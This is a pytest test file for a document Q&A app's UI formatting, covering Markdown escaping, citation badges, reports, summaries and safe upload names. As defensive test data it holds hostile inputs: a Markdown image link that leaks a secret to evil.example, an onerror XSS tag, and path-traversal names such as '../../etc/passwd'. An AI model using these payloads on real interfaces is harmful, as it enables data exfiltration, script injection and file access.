"""The UI's pure formatting: escaping untrusted text, citations, reports, summaries, names."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app import uploads
from app.conversations import where
from app.ui import present
from ingest.report import FileOutcome, IngestReport
from rag.answer import Answer, AnswerSentence, Citation
from rag.citations import CITATION
from rag.context import Source
from rag.summarize import Summary
from rag.types import DocumentRecord

PASSAGE = "Annual leave. Every employee receives 27 days of annual leave per year. Ask HR."


def _answer(status: str = "answered") -> Answer:
    source = Source(1, [], PASSAGE, "handbook.pdf", "Staff Handbook", 2, 100, 100 + len(PASSAGE))
    start = PASSAGE.index("Every")
    end = PASSAGE.index(" Ask")
    citation = Citation(
        1, "handbook.pdf", "Staff Handbook", 2, "abc", PASSAGE[start:end], 100 + start, 100 + end
    )
    return Answer(
        question="How many days?",
        query="How many days?",
        text="Every employee receives 27 days. [1]",
        status=status,  # type: ignore[arg-type]
        citations=[citation] if status == "answered" else [],
        evidence=[source],
    )


def _bare(token: str, text: str) -> bool:
    """Whether ``token`` occurs in ``text`` with its first character not escaped."""
    return re.search(r"(?<!\\)" + re.escape(token), text) is not None


def test_marker_pattern_matches_the_citation_parser() -> None:
    assert present._MARKER.pattern == CITATION.pattern


@pytest.mark.parametrize(
    "hostile",
    [
        "![x](http://evil.example/leak?q=secret)",
        "[click](https://evil.example)",
        "<img src=x onerror=alert(1)>",
        "visit www.evil.example or https://evil.example/a",
        ":red[alarm] $x^2$ **bold** `code`",
    ],
)
def test_escape_leaves_no_markdown_construct(hostile: str) -> None:
    escaped = present.escape(hostile)

    for token in ("![", "](", "<img", "://", ".example", ":red[", "$x", "**", "`c"):
        assert not _bare(token, escaped), token
    assert re.sub(r"\\(.)", r"\1", escaped) == hostile


@given(st.text())
def test_escape_is_reversible_and_leaves_no_bare_punctuation(text: str) -> None:
    escaped = present.escape(text)

    assert re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", escaped).replace("  \n", "\n") == text.replace(
        "\r", ""
    )
    assert not re.search(r"(?<!\\)[\[\]()<>!:]", re.sub(r"\\\\", "", escaped))


def test_answer_markers_become_badges_and_the_rest_is_escaped() -> None:
    shown = present.answer_markdown("It is 27 days [1]. See [link](http://x.example) [2, 3]")

    assert ":blue-badge[1]" in shown and ":blue-badge[2] :blue-badge[3]" in shown
    assert "](" not in shown and "\\[link\\]" in shown


def test_cited_passage_highlights_the_quote_in_its_source() -> None:
    answer = _answer()

    shown = present.cited_passage(answer, answer.citations[0])

    assert ":orange-background[Every employee receives 27 days of annual leave per year\\.]" in (
        shown
    )
    assert shown.startswith("Annual leave\\.") and shown.endswith("Ask HR\\.")


def test_highlight_trims_long_context_with_ellipses() -> None:
    text = "a" * 2000 + "QUOTE" + "b" * 2000

    shown = present.highlighted(text, 2000, 2005, context=10)

    assert shown == "… " + "a" * 10 + ":orange-background[QUOTE]" + "b" * 10 + " …"


def test_quote_outside_the_evidence_is_shown_alone() -> None:
    answer = _answer()
    answer.evidence = []

    assert present.cited_passage(answer, answer.citations[0]).startswith(":orange-background[")


@pytest.mark.parametrize(
    ("status", "tone"), [("answered", "success"), ("unverified", "warning"), ("not_found", "info")]
)
def test_verdict_distinguishes_the_three_states(status: str, tone: str) -> None:
    assert present.verdict(_answer(status)).tone == tone


def test_an_answer_of_quotes_shows_each_quote_escaped_with_its_badge() -> None:
    answer = _answer()
    cited = answer.citations[0]
    answer.sentences = [AnswerSentence("See [the form](http://evil.example) *now*.", cited)]
    shown = present.quote_markdown(answer, 0)
    assert shown.startswith("> ") and shown.endswith(":blue-badge[1]")
    assert not _bare("](", shown) and not _bare("*", shown)
    assert present.verdict(answer) == present.Verdict(
        "success", "Verified: 1 quote of your documents, each on the page it cites."
    )
    answer.fallback = "the model failed: Cannot reach Ollama"
    assert present.verdict(answer).tone == "info"
    assert "could not be verified" in present.verdict(answer).message


def test_citation_label_and_where() -> None:
    answer = _answer()

    assert present.citation_label(answer.citations[0]) == "[1] Staff Handbook, p. 2"
    assert where("Staff Handbook", "handbook.pdf", 2) == ("Staff Handbook (handbook.pdf), p. 2")
    assert where("", "notes.md", 0) == "notes.md"


def test_report_rows_and_headline_match_the_cli_outcomes() -> None:
    report = IngestReport(
        collection="docs",
        files=[
            FileOutcome("/u/a.pdf", "a.pdf", "added", chunks=3, pages=2),
            FileOutcome("/u/b.pdf", "b.pdf", "failed", reason="not a PDF"),
        ],
    )

    rows = present.report_rows(report)
    tone, headline = present.report_headline(report)

    assert rows[1] == {"file": "b.pdf", "outcome": "failed", "chunks": 0, "pages": 0,
                       "reason": "not a PDF"}  # fmt: skip
    assert tone == "warning"
    assert headline == "2 files into docs: 1 added, 1 failed."
    report.pruned = ["old.pdf"]
    assert present.report_headline(report)[1].endswith("1 failed; 1 removed (file gone).")


def test_document_rows_filter_by_file_or_title() -> None:
    records = [
        DocumentRecord("k1", "/r", "b.pdf", title="Budget", pages=3, chunks=4,
                       ingested_at="2026-01-02T03:04:05+00:00"),
        DocumentRecord("k2", "/r", "a.txt", title="Handbook", chunks=1),
    ]  # fmt: skip

    assert [r["file"] for r in present.document_rows(records)] == ["a.txt", "b.pdf"]
    assert [r["file"] for r in present.document_rows(records, "BUDG")] == ["b.pdf"]
    assert present.document_rows(records, "b.pdf")[0]["ingested"] == "2026-01-02 03:04:05"


def test_summary_markdown_carries_pages_and_a_safe_file_name() -> None:
    summary = Summary("d", "reports/q3 plan.pdf", "Q3 Plan", "- Goals (p. 1)", "short",
                      focus="costs", parts=2, part_pages=["p. 1", "pp. 2-3"])  # fmt: skip

    text = present.summary_markdown(summary)

    assert text.startswith("# Summary of Q3 Plan\n")
    assert "short, focus: costs" in text and "(p. 1, pp. 2-3)" in text
    assert present.summary_file_name(summary) == "q3 plan-summary.md"


def test_downloaded_markdown_has_no_live_links() -> None:
    text = present.neutralize_links("![a](http://x.example/i.png) <b> www.x.example")

    assert "<b>" not in text
    assert not any(_bare(token, text) for token in ("![", "](", "://", "www."))


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\boot.ini", "boot.ini"),
        ("Q3 report (final).pdf", "Q3 report _final_.pdf"),
        ("...", ""),
        (".hidden.txt", "hidden.txt"),
        ("x" * 300 + ".pdf", "x" * 116 + ".pdf"),
    ],
)
def test_safe_file_name(name: str, safe: str) -> None:
    assert uploads.safe_file_name(name) == safe


def test_upload_target_stays_in_its_folder(tmp_path: Path) -> None:
    assert uploads.upload_target(tmp_path, "../a.pdf") == (tmp_path / "a.pdf").resolve()
    with pytest.raises(ValueError):
        uploads.upload_target(tmp_path, "../..")
